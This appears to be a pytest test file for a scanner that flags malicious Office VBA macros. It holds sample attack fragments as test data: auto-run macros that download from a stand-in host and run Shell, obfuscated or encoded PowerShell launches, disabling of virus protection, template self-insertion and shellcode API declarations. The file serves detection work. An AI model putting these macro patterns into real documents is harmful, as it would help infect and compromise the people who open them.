from __future__ import annotations

import base64

import pytest
from hypothesis import given, strategies as st

from app.engine.analyzers.vba.strings import folded
from app.engine.budget import Budget, Limits
from app.engine.model import Report, Severity, Verdict
from app.engine.rules import RuleSet
from app.engine.scan import Engine
from app.sandbox.compound_file import compound_file, compress, vba_project
from tests.fuzz import fuzzed

from .containers import damaged, judged

_GET = 'URLDownload" & "ToFile'


def severities(report: Report) -> dict[str, Severity]:
    return {finding.id: finding.severity for finding in report.findings}


def lines(*code: str, start: str = "AutoOpen") -> str:
    return "\r\n".join((f"Sub {start}()", *code, "End Sub", ""))


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ('x = Chr(112) & "ower" & StrReverse("llehs")', "powershell"),
        ('Shell Chr$(99) + ChrW(100 + 9) & "d" & _\n ".exe"', "cmd.exe"),
        ('a = "ht"\na = a & "tp"\na = a & junk & "s"\nf a & ":"', "https:"),
        ('x = Join(Array("c", "m", "d"), "") & Replace("ZZ.eZZxe", "ZZ", "")', "cmd.exe"),
        ('Const A As String = "ab" & "cd"', "abcd"),
        ('x = VBA.Chr(&H68) & "t" & Mid("zztpzz", 3, 2)', "http"),
        ('Environ("TEMP") & "\\a.exe"', "%TEMP%\\a.exe"),
        ('x = "a" & 7 Mod 4 & "c"', "a3c"),
        ('x = Left("powder", 3) & UCase("er") \' & "never"', "powER"),
    ],
)
def test_a_constant_expression_is_worked_out(source: str, text: str) -> None:
    assert text in folded(source, Budget(Limits())).text.split("\n")


@pytest.mark.parametrize(
    "part", ["Chr(", "((((", '"a" & ', "a = a & a\n", 's = s & "x": t = s & "y"\n', "f(x,", "x.", "-"]
)
def test_many_of_anything_are_worked_out_in_linear_time(engine: Engine, part: str) -> None:
    source = ('s = "x"\na = "y"\n' + part * (20_000 // len(part))).encode()

    folded(source.decode(), Budget(Limits(seconds=10)))


def attack(*code: str, start: str = "AutoOpen") -> str:
    return lines(*code, start=start)


_ENCODED = base64.b64encode("powershell -w hidden".encode("utf-16-le")).decode()
_SHIFTED = "".join(chr(ord(letter) + 3) for letter in "powershell -enc AAAA")
_CODES = ", ".join(str(ord(letter) ^ 21) for letter in "cmd.exe /c start calc")


@pytest.mark.parametrize(
    "source",
    [
        attack('URLDownloadToFile 0, "http://site.example/a", Environ("TEMP") & "\\a.dat", 0, 0', 'Shell "cmd /c b"'),
        attack(
            'Set o = CreateObject("WScr" & "ipt.Sh" & "ell")',
            'o.Run "pow" & "ersh" & "ell -nop"',
            start="Document_Open",
        ),
        attack('x = StrReverse("llehsrewop")', "Shell x, 0", start="Workbook_Open"),
        attack(f'x = Decode("{_ENCODED}")', "Shell x, 0"),
        attack(f'x = Decode("{_SHIFTED}")', "Shell x, 0"),
        attack(f"x = Decode(Array({_CODES}))", "Shell x, 0"),
        attack(
            'Set h = CreateObject("MSXML2.XMLHTTP")', "Open p For Binary As #1", "Put #1, , h.responseBody", "Shell p"
        ),
        attack("Shell UserForm1.TextBox1.Tag, 0"),
        attack("ActiveDocument.VBProject.x: NormalTemplate.VBProject.VBComponents(1).CodeModule.InsertLines 1, s"),
        attack("Options.VirusProtection = False", start="AutoExec"),
        attack('Shell "mshta x"', start="Image1_MouseHover"),
        "Declare Function VirtualAlloc Lib x ()\nDeclare Sub RtlMoveMemory\nDeclare Function CreateThread\n",
    ],
)
def test_a_macro_that_attacks_is_malicious(engine: Engine, source: str) -> None:
    report = engine.scan(vba_project(source), name="vbaProject.bin")

    assert severities(report)["office.macro_attack"] is Severity.MALICIOUS


def test_the_finding_says_what_the_macro_does_and_shows_the_line(engine: Engine) -> None:
    source = attack('URLDownloadToFile 0, "http://site.example/a", p, 0, 0', "Shell p")

    found = next(f for f in engine.scan(vba_project(source), name="a.bin").findings if f.id == "office.macro_attack")

    assert found.title == (
        "Macro that runs by itself when the document is opened or closed, downloads a file and starts a program"
    )
    assert "AutoOpen" in found.evidence and "http://site.example/a" in found.evidence


@pytest.mark.parametrize(
    ("source", "verdict"),
    [
        (lines('MsgBox "Welcome"'), Verdict.CLEAN),
        (lines('Shell "notepad.exe"', start="OpenNotes"), Verdict.CLEAN),
        (lines('Shell "notepad.exe"'), Verdict.SUSPICIOUS),
        (lines('Set d = CreateObject("Scripting.Dictionary")', 'd.Add "a" & "b", Chr(65) & Chr(66)'), Verdict.CLEAN),
        (lines("' Shell powershell -enc, URLDownloadToFile"), Verdict.CLEAN),
        (lines('Open "C:\\log.txt" For Append As #1', 'Print #1, Now & " opened " & ThisWorkbook.Name'), Verdict.CLEAN),
        (
            lines('Set h = CreateObject("MSXML2.XMLHTTP")', 'h.Open "GET", "https://rates.example/"', start="Rates"),
            Verdict.CLEAN,
        ),
        (
            lines('Set sh = CreateObject("WScript.Shell")', 'p = sh.SpecialFolders("Desktop")', start="Save"),
            Verdict.CLEAN,
        ),
        (lines('Label1.Caption = Sheet1.Range("A1")', start="Workbook_Open"), Verdict.CLEAN),
    ],
)
def test_a_macro_that_people_write_is_at_most_suspicious(engine: Engine, source: str, verdict: Verdict) -> None:
    assert engine.scan(vba_project(source), name="vbaProject.bin").verdict is verdict


def project(source: str, *, compiled: bytes = b"", form: bytes = b"", hidden: bool = False) -> bytes:
    """A project whose module has a compiled form before its source, and a form."""
    body = b"" if hidden else compress(b'Attribute VB_Name = "M"\r\n' + source.encode())
    storages = {"VBA": {"M": compiled + body, "_VBA_PROJECT": b"\xcc\x61\xff\xff\0\0\0"}}
    if form:
        storages["UserForm1"] = {"o": form, "f": bytes(20)}
    return compound_file({}, storages)


def test_compiled_code_that_the_source_does_not_show_is_malicious(engine: Engine) -> None:
    compiled = bytes(40) + b"\xb9\x00\x0a\x00powershell -nop" + bytes(40)

    assert severities(engine.scan(project("Sub A()\r\nEnd Sub\r\n", compiled=compiled), name="a.bin")) == {
        "office.macro": Severity.INFO,
        "office.macro_stomped": Severity.MALICIOUS,
    }


def test_compiled_code_that_says_what_the_source_says_is_clean(engine: Engine) -> None:
    compiled = bytes(40) + b"\xb9\x00\x0a\x00https://site.example/a.txt" + bytes(40)
    source = 'Sub A()\r\n  ThisDocument.FollowHyperlink "https://site.example/a.txt"\r\nEnd Sub\r\n'

    assert engine.scan(project(source, compiled=compiled), name="a.bin").verdict is Verdict.CLEAN


def test_a_module_whose_source_was_taken_out_is_suspicious(engine: Engine) -> None:
    found = severities(engine.scan(project("", compiled=bytes(range(256)) * 8, hidden=True), name="a.bin"))

    assert found == {"office.macro_without_source": Severity.SUSPICIOUS}


@pytest.mark.parametrize("wide", [False, True])
def test_a_command_in_the_texts_of_a_form_is_seen(engine: Engine, wide: bool) -> None:
    text = "powershell -w hidden -enc AAAA"
    form = bytes(8) + text.encode("utf-16-le" if wide else "ascii") + bytes(8)
    source = "Sub AutoOpen()\r\n  Shell UserForm1.a & UserForm1.b\r\nEnd Sub\r\n"

    assert severities(engine.scan(project(source, form=form), name="a.bin"))["office.macro_attack"]


def test_a_form_with_labels_is_clean(engine: Engine) -> None:
    form = bytes(8) + b"Please enter the name of the customer" + bytes(8)

    assert engine.scan(project("Sub A()\r\n  Beep\r\nEnd Sub\r\n", form=form), name="a.bin").verdict is Verdict.CLEAN


@fuzzed()
@given(st.data())
def test_a_damaged_project_never_fails(rules: RuleSet, data: st.DataObject) -> None:
    content = project(attack('x = "a" & Chr(99) & Mid("b", 1)', "Shell x"), compiled=bytes(60), form=b"abcdefgh")
    judged(rules, data.draw(damaged(content, within=(512, len(content) - 1))), "vbaProject.bin")


@fuzzed(40)
@given(st.text(alphabet="abChrMid\"&+-()., _\n=123'", max_size=60))
def test_any_source_is_worked_out(source: str) -> None:
    assert folded(source, Budget(Limits())).whole
